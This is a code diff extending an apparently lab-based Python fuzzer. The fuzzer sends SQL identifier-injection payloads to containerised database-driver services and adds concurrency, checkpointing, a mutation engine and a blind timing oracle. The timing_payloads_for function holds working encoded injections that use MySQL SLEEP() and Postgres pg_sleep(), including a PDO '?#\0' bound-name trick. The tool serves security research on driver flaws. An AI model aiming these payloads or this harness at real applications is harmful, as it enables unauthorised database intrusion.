@@ -1,11 +1,26 @@
 #!/usr/bin/env python3
 import argparse
+import asyncio
+import hashlib
+import itertools
 import json
+import random
 import re
 import sys
-import urllib.request
+import time
+from concurrent.futures import ThreadPoolExecutor, as_completed
 from pathlib import Path
 
+import batch
+import mutator
+import pdo_model
+import timing
+from bodystore import BodyStore
+from checkpoint import Journal, case_id
+from httppool import HTTPPool
+from report import AssetnoteSummary, build_reports
+from resultstore import ResultStore
+
 
 # Container-internal ports (used from attacker container)
 INTERNAL_SERVICES = [
@@ -45,18 +60,33 @@ HOST_SERVICES = [
 ]
 
 
+POOL = HTTPPool()
+STORE = None  # optional BodyStore, set by --body-store
+RESULTS = None  # ResultStore, unless --no-db
+PDO_PREFILTER = "off"  # off | rank | discard, set by --pdo-prefilter
+BATCH = 0  # cases per POST to <endpoint>/batch, set by --batch; 0 = one GET per case
+PDO_EMULATE_SERVICES = {"php-pdo-emulate"}
+# Services that also expose /vuln-pg (Postgres), probed by timing and mutate
+PG_ENDPOINT_SERVICES = {
+    "php-pdo-emulate", "php-pdo-native", "php-laravel-qb", "node-mysql2", "node-knex", "node-sequelize",
+    "python-sqlalchemy", "java-jdbc", "java-spring-boot",
+}
+
+
+def write_record(journal, rec: dict):
+    cid = case_id(rec["service"], rec["endpoint"], rec["tag"])
+    if RESULTS is not None:
+        RESULTS.add(rec["service"], rec["endpoint"], rec["tag"], rec["http_code"],
+                    "indicator" if rec["indicator"] else "no_indicator", rec["body"])
+    if STORE is not None:
+        rec = STORE.compact(rec)
+    journal.write(cid, json.dumps(rec, ensure_ascii=False) + "\n")
+
+
 def http_get(url: str):
     try:
-        with urllib.request.urlopen(url, timeout=15) as resp:
-            code = resp.getcode()
-            body = resp.read().decode(errors="replace")
-            return code, body
-    except urllib.error.HTTPError as e:
-        try:
-            body = e.read().decode(errors="replace")
-        except Exception:
-            body = ""
-        return e.code, body
+        code, body = POOL.get(url)
+        return code, body.decode(errors="replace")
     except Exception as e:
         return 0, str(e)
 
@@ -92,6 +122,24 @@ def payloads_for(dialect: str):
     return out
 
 
+def timing_payloads_for(dialect: str, sleep: float):
+    # (tag, encoded col, encoded name) probes for blind, latency-only injections.
+    # The PDO ones rely on the ?#\0 trick moving the bound name into the identifier.
+    s = f"{sleep:g}"
+    if dialect == "mysql":
+        return [
+            ("pdo_qhash_sleep", "%3F%23%00", f"x%60%20FROM%20(SELECT%20SLEEP({s}))y%3B%23"),
+            ("pdo_bs_qhash_sleep", "%5C%3F%23%00", f"x%60%20FROM%20(SELECT%20SLEEP({s}))y%3B%23"),
+            ("id_sleep", f"name%60%2C%20SLEEP({s})%2C%20%60name", "apple"),
+            ("id_comment_sleep", f"name%60%2FSLEEP({s})%2F%60", "apple"),
+        ]
+    return [
+        ("pdo_qhash_pg_sleep", "%3F%23%00", f"x%22%20FROM%20(SELECT%20pg_sleep({s}))y%3B--"),
+        ("id_pg_sleep", f"name%22%2C%20pg_sleep({s})%2C%20%22name", "apple"),
+        ("id_bs_pg_sleep", f"name%5C%22%2C%20pg_sleep({s})%20--", "apple"),
+    ]
+
+
 ERROR_PATTERNS = [
     re.compile(r"HY093|Invalid parameter number", re.I),
     re.compile(r"wrong number of bind variables", re.I),
@@ -111,63 +159,291 @@ def has_indicator(http_code: int, body: str, benign: bool):
     return False
 
 
-def run(base_dir: str, out_dir: Path, services):
+def fuzz_case(svc: str, port: str, ep: str, dialect: str, tag: str, enc: str):
+    qs = f"col={enc}&name=apple"
+    code, body = http_get(f"http://{svc}:{port}{ep}?{qs}")
+    return case_record(svc, ep, dialect, tag, enc, code, body)
+
+
+def case_record(svc: str, ep: str, dialect: str, tag: str, enc: str, code: int, body: str):
+    indicator = has_indicator(code, body, tag.endswith("benign"))
+    return {
+        "service": svc,
+        "dialect": dialect,
+        "endpoint": ep,
+        "tag": tag,
+        "encoded_col": enc,
+        "http_code": code,
+        "indicator": bool(indicator),
+        "body": body,
+    }
+
+
+def iter_cases(services):
+    for svc, port, ep, dialect in services:
+        payloads = payloads_for(dialect)
+        if PDO_PREFILTER != "off" and svc in PDO_EMULATE_SERVICES:
+            # Rank (or drop) payloads by what PDO's emulated-prepare scanner would do
+            ranked = pdo_model.rank(payloads, dialect, discard=PDO_PREFILTER == "discard")
+            payloads = [(tag, enc) for tag, enc, _ in ranked]
+        for tag, enc in payloads:
+            yield svc, port, ep, dialect, tag, enc
+
+
+def iter_pending(services, journal):
+    # Cases already in the checkpoint journal (from --resume) are skipped
+    for case in iter_cases(services):
+        svc, _, ep, _, tag, _ = case
+        if journal.pending(case_id(svc, ep, tag)):
+            yield case
+
+
+def iter_chunks(cases):
+    # Consecutive cases of one endpoint, BATCH at a time (one at a time without --batch)
+    size = max(1, BATCH)
+    for _, group in itertools.groupby(cases, key=lambda case: (case[0], case[2])):
+        group = list(group)
+        for i in range(0, len(group), size):
+            yield group[i:i + size]
+
+
+def fuzz_cases(cases):
+    # Records of cases of one endpoint: one POST to its batch route if it has
+    # one, else one GET per case
+    if BATCH > 1 and len(cases) > 1:
+        svc, port, ep = cases[0][:3]
+        results = batch.post(POOL, f"{svc}:{port}", ep, [(mutator.decode(enc), "apple") for *_, enc in cases])
+        if results is not None:
+            return [case_record(svc, ep, case[3], case[4], case[5], *res) if res else fuzz_case(*case)
+                    for case, res in zip(cases, results)]
+    return [fuzz_case(*case) for case in cases]
+
+
+async def run_async(services, journal, concurrency: int, per_service: int):
+    # Global in-flight limit plus a per-service cap so one slow service (e.g. a
+    # cold-starting JVM) cannot occupy every slot. Blocking HTTP calls run in
+    # worker threads; records are streamed to the NDJSON as they complete.
+    # The threads come from an executor sized to the limit: the loop's default
+    # one (asyncio.to_thread) has min(32, cpus + 4) and would cap concurrency.
+    global_sem = asyncio.Semaphore(concurrency)
+    service_sems = {svc: asyncio.Semaphore(per_service) for svc, _, _, _ in services}
+    loop = asyncio.get_running_loop()
+
+    with ThreadPoolExecutor(max_workers=concurrency) as executor:
+        async def worker(cases):
+            async with service_sems[cases[0][0]]:
+                async with global_sem:
+                    recs = await loop.run_in_executor(executor, fuzz_cases, cases)
+            for rec in recs:
+                write_record(journal, rec)
+
+        await asyncio.gather(*(worker(cases) for cases in iter_chunks(iter_pending(services, journal))))
+
+
+def timed_get(url: str):
+    start = time.perf_counter()
+    code, _ = http_get(url)
+    return code, time.perf_counter() - start
+
+
+def timing_targets(services):
+    # Groups endpoints per service; services with an extra Postgres endpoint get it probed too
+    groups = {}
+    for svc, port, ep, dialect in services:
+        groups.setdefault(svc, []).append((svc, port, ep, dialect))
+        if svc in PG_ENDPOINT_SERVICES:
+            groups[svc].append((svc, port, "/vuln-pg", "postgres"))
+    return list(groups.values())
+
+
+def timing_service(targets, sleep: float, alpha: float, min_samples: int, max_samples: int):
+    # One request in flight per service: concurrent requests to the same
+    # target would inflate each other's latency
+    out = []
+    for svc, port, ep, dialect in targets:
+        baseline_url = f"http://{svc}:{port}{ep}?col=name&name=apple"
+        for tag, col, name in timing_payloads_for(dialect, sleep):
+            res = timing.probe(timed_get, baseline_url, f"http://{svc}:{port}{ep}?col={col}&name={name}",
+                               sleep, alpha, min_samples, max_samples)
+            out.append({
+                "service": svc,
+                "dialect": dialect,
+                "endpoint": ep,
+                "tag": tag,
+                "encoded_col": col,
+                "encoded_name": name,
+                **res,
+            })
+    return out
+
+
+def run_timing(out_dir: Path, services, concurrency: int = 1, sleep: float = 1.0, alpha: float = 0.01,
+               min_samples: int = 5, max_samples: int = 30):
     out_dir.mkdir(parents=True, exist_ok=True)
-    ndjson = out_dir / "assetnote-fuzz.ndjson"
-    jpath = out_dir / "assetnote-fuzz.json"
-    mpath = out_dir / "assetnote-fuzz.md"
-    results = []
-
-    with ndjson.open("w", encoding="utf-8") as nd:
-        for svc, port, ep, dialect in services:
-            base = f"{svc}:{port}"
-            for tag, enc in payloads_for(dialect):
-                benign = tag.endswith("benign")
-                qs = f"col={enc}&name=apple"
-                url = f"http://{base}{ep}?{qs}"
-                code, body = http_get(url)
-                indicator = has_indicator(code, body, benign)
-                rec = {
-                    "service": svc,
-                    "dialect": dialect,
-                    "endpoint": ep,
-                    "tag": tag,
-                    "encoded_col": enc,
-                    "http_code": code,
-                    "indicator": bool(indicator),
-                    "body": body,
-                }
+    ndjson = out_dir / "assetnote-timing.ndjson"
+    targets = timing_targets(services)
+    with ndjson.open("w", encoding="utf-8") as nd, ThreadPoolExecutor(max_workers=max(1, concurrency)) as ex:
+        futures = [ex.submit(timing_service, t, sleep, alpha, min_samples, max_samples) for t in targets]
+        for fut in as_completed(futures):
+            for rec in fut.result():
                 nd.write(json.dumps(rec, ensure_ascii=False) + "\n")
-                results.append(rec)
-
-    with jpath.open("w", encoding="utf-8") as jf:
-        json.dump(results, jf, ensure_ascii=False, indent=2)
-
-    # Markdown summary per service
-    with mpath.open("w", encoding="utf-8") as md:
-        md.write("# Assetnote-style parser fuzz results\n\n")
-        for svc in sorted({r["service"] for r in results}):
-            svc_res = [r for r in results if r["service"] == svc]
-            total = len(svc_res)
-            hits = sum(1 for r in svc_res if r["indicator"])  # errors or heuristic match
-            md.write(f"## {svc} — indicators: {hits}/{total}\n")
-            # List top 5 tags that triggered
-            tags = [r["tag"] for r in svc_res if r["indicator"]]
-            top = sorted(set(tags))[:10]
-            for t in top:
-                md.write(f"- {t}\n")
-            md.write("\n")
+                nd.flush()
+                if rec["verdict"] != "no_delay":
+                    print(f"{rec['service']}{rec['endpoint']} {rec['tag']}: {rec['verdict']} "
+                          f"(+{rec['delta_ms']}ms, p={rec['p_value']:.2g}, n={rec['samples']})")
+    print(f"Wrote: {ndjson}")
+    print(POOL.summary())
+
+
+def mutate_target(target, journal, corpus_dir: Path, budget: int, seed: int):
+    # Seeds are the saved corpus of the target, or payloads_for() on the first
+    # run; each later request mutates an entry that produced a new signature
+    svc, port, ep, dialect = target
+    rng = random.Random(f"{seed}:{svc}{ep}")
+    corpus = mutator.Corpus(rng)
+    path = corpus_dir / f"{svc}{ep.replace('/', '_')}.ndjson"
+    seeds = [(e["tag"], e["col"], e["parent"], e["mutation"]) for e in mutator.Corpus.load(path)]
+    seeds = seeds or [(tag, enc, "", "seed") for tag, enc in payloads_for(dialect)]
+    sent = 0
+    size = max(1, BATCH)
+
+    def send(round_cases):
+        # With --batch, a round of mutants is sent in one request and only
+        # then fed back into the corpus
+        nonlocal sent
+        recs = fuzz_cases([(svc, port, ep, dialect, tag, enc) for tag, enc, _, _ in round_cases])
+        for (tag, enc, parent, mutation), rec in zip(round_cases, recs):
+            payload = mutator.decode(enc)
+            sig = mutator.signature(rec["http_code"], rec["body"], payload)
+            novel = corpus.add(payload, sig, tag, parent, mutation)
+            rec.update(signature=sig, novel=novel, parent=parent, mutation=mutation)
+            write_record(journal, rec)
+            sent += 1
+
+    seeds = seeds[:budget]
+    for i in range(0, len(seeds), size):
+        send(seeds[i:i + size])
+    while sent < budget:
+        round_cases = []
+        while len(round_cases) < min(size, budget - sent):
+            picked = mutator.mutate(rng, corpus)
+            if picked is None:
+                break
+            parent, data, steps = picked
+            corpus.seen.add(data)  # not generated again while its round is pending
+            # Tags are derived from the payload, so the same payload has the same
+            # tag in every run and in the results store
+            tag = "mut_" + hashlib.blake2b(data, digest_size=5).hexdigest()
+            round_cases.append((tag, mutator.encode(data), parent["tag"], steps))
+        if not round_cases:
+            break
+        send(round_cases)
+    corpus.save(path)
+    return svc, ep, sent, len(corpus.entries)
+
+
+def run_mutate(out_dir: Path, services, concurrency: int = 1, budget: int = 300, seed: int = 1):
+    out_dir.mkdir(parents=True, exist_ok=True)
+    ndjson = out_dir / "assetnote-mutate.ndjson"
+    targets = [t for group in timing_targets(services) for t in group]
+    with Journal(ndjson) as journal, ThreadPoolExecutor(max_workers=max(1, concurrency)) as ex:
+        futures = [ex.submit(mutate_target, t, journal, out_dir / "corpus", budget, seed) for t in targets]
+        for fut in as_completed(futures):
+            svc, ep, sent, signatures = fut.result()
+            print(f"{svc}{ep}: {sent} requests, {signatures} distinct responses")
+
+    summary = [POOL.summary()] + ([STORE.summary()] if STORE is not None else [])
+    if RESULTS is not None:
+        RESULTS.finish_run()
+        summary.append(RESULTS.summary())
+    jpath, mpath = report(ndjson, summary)
+    print(f"Wrote: {ndjson}, {jpath}, {mpath}, {out_dir / 'corpus'}/")
+    print("\n".join(summary))
+
+
+def report(ndjson: Path, extra_lines=(), store=None):
+    jpath = ndjson.with_suffix(".json")
+    mpath = ndjson.with_suffix(".md")
+    build_reports(ndjson, jpath, mpath, AssetnoteSummary(), extra_lines, store)
+    return jpath, mpath
+
+
+def run(base_dir: str, out_dir: Path, services, concurrency: int = 1, per_service: int = 4, resume: bool = False):
+    out_dir.mkdir(parents=True, exist_ok=True)
+    ndjson = out_dir / "assetnote-fuzz.ndjson"
+
+    with Journal(ndjson, resume) as journal:
+        if concurrency > 1:
+            asyncio.run(run_async(services, journal, concurrency, max(1, per_service)))
+        else:
+            for cases in iter_chunks(iter_pending(services, journal)):
+                for rec in fuzz_cases(cases):
+                    write_record(journal, rec)
+        skipped = journal.skipped
 
+    summary = [POOL.summary()] + ([STORE.summary()] if STORE is not None else [])
+    if RESULTS is not None:
+        RESULTS.finish_run()
+        summary.append(RESULTS.summary())
+    jpath, mpath = report(ndjson, summary)
     print(f"Wrote: {ndjson}, {jpath}, {mpath}")
+    if skipped:
+        print(f"Resumed: skipped {skipped} completed cases")
+    print("\n".join(summary))
 
 
 def main():
     parser = argparse.ArgumentParser(description="Fuzz all services with Assetnote-style identifier payloads")
+    parser.add_argument("command", nargs="?", choices=["run", "report", "timing", "mutate"], default="run", help="run the fuzzer (default), rebuild .json/.md from an existing NDJSON, run the timing oracle, or run the novelty-guided mutator")
+    parser.add_argument("--ndjson", help="NDJSON file for the report command (default: OUT_DIR/assetnote-fuzz.ndjson)")
     parser.add_argument("--out-dir", default="/workspace/out", help="output directory")
     parser.add_argument("--ports", choices=["internal", "host"], default="internal", help="use container-internal or host-exposed ports")
+    parser.add_argument("--concurrency", type=int, default=1, help="global in-flight request limit; >1 enables the asyncio engine")
+    parser.add_argument("--per-service", type=int, default=4, help="in-flight request limit per service (asyncio engine only)")
+    parser.add_argument("--body-store", help="store deduplicated, compressed bodies in this directory and keep only hash/length/prefix in the NDJSON; with report, resolve bodies back into the .json")
+    parser.add_argument("--pool-size", type=int, default=8, help="idle keep-alive connections kept per service")
+    parser.add_argument("--resume", action="store_true", help="append to an existing run and skip cases recorded in its checkpoint journal")
+    parser.add_argument("--sleep", type=float, default=1.0, help="timing: seconds injected by SLEEP()/pg_sleep() probes")
+    parser.add_argument("--alpha", type=float, default=0.01, help="timing: significance level of the Mann-Whitney test")
+    parser.add_argument("--min-samples", type=int, default=5, help="timing: baseline/probe pairs taken before testing")
+    parser.add_argument("--max-samples", type=int, default=30, help="timing: upper bound on pairs per probe")
+    parser.add_argument("--budget", type=int, default=300, help="mutate: requests per endpoint, seeds included")
+    parser.add_argument("--seed", type=int, default=1, help="mutate: random seed")
+    parser.add_argument("--batch", type=int, default=0, help="run/mutate: send up to N cases per POST to <endpoint>/batch on services that have one (falls back to one GET per case)")
+    parser.add_argument("--db", help="SQLite results store shared with pymysql_fuzzer.py and run_tests.py (default: OUT_DIR/results.sqlite)")
+    parser.add_argument("--no-db", action="store_true", help="do not record the run in the results store")
+    parser.add_argument("--label", default="", help="name of the run in the results store, e.g. the driver version under test")
+    parser.add_argument("--pdo-prefilter", choices=["off", "rank", "discard"], default="off", help="use pdo_model.py to order, or drop, payloads for PDO-emulated services before sending")
     args = parser.parse_args()
+    global STORE, RESULTS, PDO_PREFILTER, BATCH
+    PDO_PREFILTER = args.pdo_prefilter
+    BATCH = args.batch
+    if args.body_store:
+        STORE = BodyStore(Path(args.body_store))
+    if args.command == "report":
+        ndjson = Path(args.ndjson) if args.ndjson else Path(args.out_dir) / "assetnote-fuzz.ndjson"
+        jpath, mpath = report(ndjson, store=STORE)
+        print(f"Wrote: {jpath}, {mpath}")
+        return
+    POOL.pool_size = args.pool_size
     services = INTERNAL_SERVICES if args.ports == "internal" else HOST_SERVICES
-    run("/workspace", Path(args.out_dir), services)
+    if args.command == "timing":
+        run_timing(Path(args.out_dir), services, args.concurrency, args.sleep, args.alpha,
+                   args.min_samples, args.max_samples)
+        return
+    if not args.no_db:
+        RESULTS = ResultStore(Path(args.db) if args.db else Path(args.out_dir) / "results.sqlite")
+        if args.command == "mutate":
+            RESULTS.start_run("assetnote-mutate", args.label,
+                              {"ports": args.ports, "budget": args.budget, "seed": args.seed, "batch": args.batch})
+        else:
+            RESULTS.start_run("assetnote", args.label,
+                              {"ports": args.ports, "pdo_prefilter": args.pdo_prefilter, "batch": args.batch}, args.resume,
+                              key=("ports", "pdo_prefilter"))
+    if args.command == "mutate":
+        run_mutate(Path(args.out_dir), services, args.concurrency, args.budget, args.seed)
+        return
+    run("/workspace", Path(args.out_dir), services, args.concurrency, args.per_service, args.resume)
 
 
 if __name__ == "__main__":